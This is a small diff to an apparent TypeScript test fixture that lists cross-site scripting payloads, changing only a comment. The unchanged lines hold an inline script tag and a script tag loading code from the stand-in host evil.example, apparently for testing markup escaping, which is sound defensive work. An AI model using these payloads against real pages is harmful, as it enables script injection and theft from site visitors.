@@ -1,4 +1,4 @@
-/** Texts that would run `hit()` in a page that takes text for markup. */
+/** Texts that call `hit()` in a page that takes text for markup. */
 export const xss: readonly string[] = [
   `<script>hit()</script>`,
   `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`,
